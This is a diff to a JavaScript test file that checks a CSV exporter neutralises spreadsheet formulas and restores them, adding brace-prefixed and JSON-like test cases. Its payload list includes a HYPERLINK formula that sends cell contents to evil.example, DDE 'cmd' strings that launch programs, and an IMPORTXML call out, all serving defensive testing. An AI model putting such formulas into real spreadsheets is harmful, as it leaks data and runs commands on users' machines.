@@ -218,7 +218,7 @@ t.test('a sheet that is full goes on in the next one, and a text that is too lon
 /** What spreadsheets have been attacked with, and what only looks like it. */
 const FORMULAS = [
   '=1+1', '=HYPERLINK("http://evil.example?"&A1,"x")', "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", '@SUM(1+1)*cmd', '\t=1', '\r=1', '\n=1', ' =1', '\u00a0=1', '\u200b=1', '\ufeff=1',
-  '\u0000=1', '|calc', '%0A=1', ';=1', '{=1}', '\uff1d1+1', '\uff0b1', '\uff0d1', '\uff20SUM(1)', "'=1", "''=1", '-', '- an item', '+', '+27 (82) 123', '=', '@', "=IMPORTXML(CONCAT(\"http://evil.example\"),\"//a\")", "' =1"
+  '\u0000=1', '|calc', '%0A=1', ';=1', '{=1}', '{ =1}', '\uff1d1+1', '\uff0b1', '\uff0d1', '\uff20SUM(1)', "'=1", "''=1", '-', '- an item', '+', '+27 (82) 123', '=', '@', "=IMPORTXML(CONCAT(\"http://evil.example\"),\"//a\")", "' =1"
 ]
 
 t.test('formulas are neutralised, and the original comes back', async t => {
@@ -227,11 +227,11 @@ t.test('formulas are neutralised, and the original comes back', async t => {
     t.match(neutraliseFormula(text), /^'/)
     t.equal(restoreFormula(neutraliseFormula(text)), text)
   }
-  for (const text of ['+27821234567', '-5', '-4.25', '+27821234567; +27831234567', '+27115550123 ext 12', '+27 82 123', "o'clock", "'t Hoenderloo", 'a=b', '12-3', "'+27821234567".slice(1)]) {
+  for (const text of ['+27821234567', '-5', '-4.25', '+27821234567; +27831234567', '+27115550123 ext 12', '+27 82 123', "o'clock", "'t Hoenderloo", 'a=b', '12-3', '{}', '{"a":1}', '{a}', '[1]', "'+27821234567".slice(1)]) {
     t.equal(neutraliseFormula(text), text, `${text} stays as it is`)
     t.equal(restoreFormula(text), text)
   }
-  fc.assert(fc.property(fc.oneof(fc.string({ unit: 'grapheme' }), fc.array(fc.constantFrom("'", '=', '+', '1', ' ', '\t', 'a', ';')).map(list => list.join(''))), text => restoreFormula(neutraliseFormula(text)) === text), { ...SEED, numRuns: 500 })
+  fc.assert(fc.property(fc.oneof(fc.string({ unit: 'grapheme' }), fc.array(fc.constantFrom("'", '=', '+', '1', ' ', '\t', 'a', ';', '{')).map(list => list.join(''))), text => restoreFormula(neutraliseFormula(text)) === text), { ...SEED, numRuns: 500 })
   const dataset = withExtras(Array.from({ length: Math.ceil(FORMULAS.length / 3) }, (_, column) => [0, 1, 2].map(row => FORMULAS[column * 3 + row] ?? null)))
   const cells = parseCsv(textOf(run(csv, dataset)[0]!)).slice(1).flatMap(row => row.slice(9)).filter(text => text !== '')
   t.equal(cells.length, FORMULAS.length)
